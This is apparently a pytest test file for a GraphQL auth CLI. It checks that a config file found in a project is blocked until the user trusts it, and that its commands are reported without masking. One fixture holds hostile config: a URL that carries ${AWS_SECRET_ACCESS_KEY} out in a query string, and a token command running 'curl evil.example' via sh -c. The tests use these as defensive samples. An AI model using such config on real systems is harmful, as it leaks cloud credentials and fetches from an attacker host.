"""A file that is found in a project, and what each command does before it is trusted."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from gqlauth._cli._gql import run
from tests.support.gql import ORDERS, SECRET

if TYPE_CHECKING:
    from syrupy.assertion import SnapshotAssertion

    from tests.support.gql import Gql
    from tests.support.http_server import HttpServer

#: An endpoint whose secret is what a command prints that can be seen to have run.
RUNS = """
[endpoints.orders]
url = "https://orders.example.com/graphql"
headers = { "X-Tenant" = "${TENANT}" }
auth = { type = "bearer", token = { command = ["touch", "ran"] } }
"""


@pytest.fixture
def gql(gql: Gql) -> Gql:
    """Give ``gql`` as a user has it, who must be asked."""
    gql.monkeypatch.delenv("GQLAUTH_TRUST")
    gql.monkeypatch.setenv("TENANT", SECRET)
    return gql


@pytest.mark.parametrize(
    "arguments",
    [
        ("api", "{ me }"),
        ("api", "{ me }", "--no-auth"),
        ("api", "{ me }", "--dry-run"),
        ("api", "{ me }", "-e", "https://elsewhere.example.com/"),
        ("auth", "token"),
        ("auth", "clear"),
    ],
    ids=" ".join,
)
def test_what_uses_the_file_stops(gql: Gql, arguments: tuple[str, ...]) -> None:
    """It exits with 2, and nothing that the file says has been done."""
    gql.file(RUNS)

    outcome = gql(*arguments)

    assert (outcome.code, outcome.stdout) == (2, "")
    assert outcome.stderr.splitlines() == [
        (
            "gqlauth.toml: not trusted: it was found in a project, and uses secrets or variables; "
            'if all of this is as it should be: "gql config trust"'
        ),
        "gqlauth.toml:3: endpoints.orders.url: sends to https://orders.example.com/graphql",
        "gqlauth.toml:4: endpoints.orders.headers.X-Tenant: reads variables: ${TENANT}",
        "gqlauth.toml:5: endpoints.orders.auth.token: runs touch ran",
    ]
    assert not (gql.project / "ran").exists()


@pytest.mark.parametrize(
    "arguments",
    [
        ("auth", "status"),
        ("auth", "status", "-e", "orders"),
        ("auth", "status", "--check"),
        ("auth", "status", "--json"),
    ],
    ids=" ".join,
)
def test_status_shows_it_as_it_stands(
    gql: Gql, golden: SnapshotAssertion, arguments: tuple[str, ...]
) -> None:
    """Its endpoints are misconfigured; no variable is read, no server asked, no command run."""
    gql.file(
        f'{RUNS}\n[endpoints.public]\nurl = "https://${{TENANT}}.example.com/graphql"\n'
        '[endpoints.free]\nurl = "https://free.example.com/graphql"\n'
    )

    outcome = gql(*arguments)

    assert outcome.code == 2
    assert golden == outcome.transcript
    assert not (gql.project / "ran").exists()


#: What it does looks like a credential here and there.
HIDES = """
[endpoints.orders]
url = "https://orders.example.com/?token=${AWS_SECRET_ACCESS_KEY}"
auth = { type = "bearer", token = { command = ["sh", "-c", "token=$(curl evil.example)"] } }
"""


@pytest.mark.parametrize("arguments", [("auth", "token"), ("config", "trust")], ids=" ".join)
def test_no_mask_hides_what_it_does(gql: Gql, arguments: tuple[str, ...]) -> None:
    """What would be masked elsewhere is told: it is what is to be judged."""
    gql.file(HIDES)

    told = gql(*arguments).stderr

    assert "url: reads variables: https://orders.example.com/?token=${AWS_SECRET_ACC" in told
    assert "token: runs sh -c 'token=$(curl evil.example)'\n" in told


def test_check_tells_its_mistakes(gql: Gql, golden: SnapshotAssertion) -> None:
    """What is wrong in it is told before it is trusted, but not what its secrets are like."""
    gql.file(f"{RUNS}\ntimeou = 7\n[auth.acme]\ntoken = {{ env = 'NOT_SET' }}\n")

    assert golden == gql("config", "check").transcript


def test_check_of_a_sound_file(gql: Gql, golden: SnapshotAssertion) -> None:
    """A sound file is ok, and it is said that it is not trusted."""
    gql.file(RUNS.replace("https://orders", "https://${TENANT}"))

    assert golden == gql("config", "check").transcript


@pytest.mark.parametrize("text", [RUNS, "broken"])
def test_path_is_told_all_the_same(gql: Gql, golden: SnapshotAssertion, text: str) -> None:
    """Where it lies needs no trust, and says whether there is any; also of one that is broken."""
    gql.file(text)

    assert golden == gql("config", "path").transcript


def test_completion_knows_its_endpoints(gql: Gql, capsys: pytest.CaptureFixture[str]) -> None:
    """Names are completed without trust."""
    gql.file(RUNS)
    gql.monkeypatch.setenv("_GQL_COMPLETE", "bash_complete")
    gql.monkeypatch.setenv("COMP_WORDS", "gql auth token -e ")
    gql.monkeypatch.setenv("COMP_CWORD", "4")
    with pytest.raises(SystemExit):
        run([])

    assert capsys.readouterr().out == "plain,orders\n"


class TestTrust:
    def test_lets_it_be_used(self, gql: Gql, golden: SnapshotAssertion, orders: HttpServer) -> None:
        """Once it is trusted, it works; what it does is told as it is trusted."""
        assert gql("auth", "token").code == 2
        assert orders.requests == []

        trusted = gql("config", "trust")

        assert trusted.code == 0
        assert golden == trusted.transcript
        assert gql("auth", "token").stdout == "token-1-of-the-server\n"

    def test_ends_with_a_change(self, gql: Gql, orders: HttpServer) -> None:
        """A file that sends elsewhere than it did is not used, and nothing is sent."""
        gql("config", "trust")
        gql.file(ORDERS.format(url=orders.url).replace("/token", "/other"))

        outcome = gql("auth", "token")

        assert outcome.code == 2
        assert "not trusted: it has changed since it was" in outcome.stderr
        assert orders.requests == []

    def test_outlives_an_edit_of_no_weight(self, gql: Gql, orders: HttpServer) -> None:
        """An edit that changes nothing of weight asks for nothing."""
        gql("config", "trust")
        gql.file("# mine\n" + ORDERS.format(url=orders.url).replace("orders:read", "read"))

        assert gql("auth", "token").code == 0

    @pytest.mark.parametrize("how", ["--config", "$GQLAUTH_CONFIG", "GQLAUTH_TRUST"])
    def test_is_not_asked_of_who_chose(self, gql: Gql, orders: HttpServer, how: str) -> None:
        """A file that is named is used at once, and any where nobody is there to ask."""
        arguments = ["--config", "gqlauth.toml"] if how == "--config" else []
        if how == "$GQLAUTH_CONFIG":
            gql.monkeypatch.setenv("GQLAUTH_CONFIG", "gqlauth.toml")
        if how == "GQLAUTH_TRUST":
            gql.monkeypatch.setenv("GQLAUTH_TRUST", "1")

        assert gql("auth", "token", *arguments).code == 0

    def test_of_a_file_that_does_not_parse(self, gql: Gql) -> None:
        """What cannot be read cannot be trusted."""
        gql.file("broken")

        outcome = gql("config", "trust")

        assert (outcome.code, outcome.stdout) == (2, "")

    def test_that_cannot_be_remembered(self, gql: Gql) -> None:
        """Where there is no place for it, that is told."""
        gql.file(RUNS)
        gql.monkeypatch.setenv("XDG_STATE_HOME", str(gql.project / "gqlauth.toml"))

        outcome = gql("config", "trust")

        assert outcome.code == 2
        assert outcome.stderr == (
            "gql: trust cannot be remembered in PROJECT/gqlauth.toml/gqlauth/trust: "
            "Not a directory\n"
        )


class TestInit:
    def test_what_it_writes_is_trusted(self, gql: Gql) -> None:
        """It can be used as it is."""
        gql("config", "init")

        outcome = gql("auth", "token")

        assert "not trusted" not in outcome.stderr
        assert "EXAMPLE_CLIENT_SECRET is not set" in outcome.stderr

    def test_where_it_cannot_be_remembered(self, gql: Gql, golden: SnapshotAssertion) -> None:
        """The file is written all the same, and it is said."""
        gql.monkeypatch.setenv("XDG_STATE_HOME", str(gql.file("", "a-file")))

        assert golden == gql("config", "init").transcript
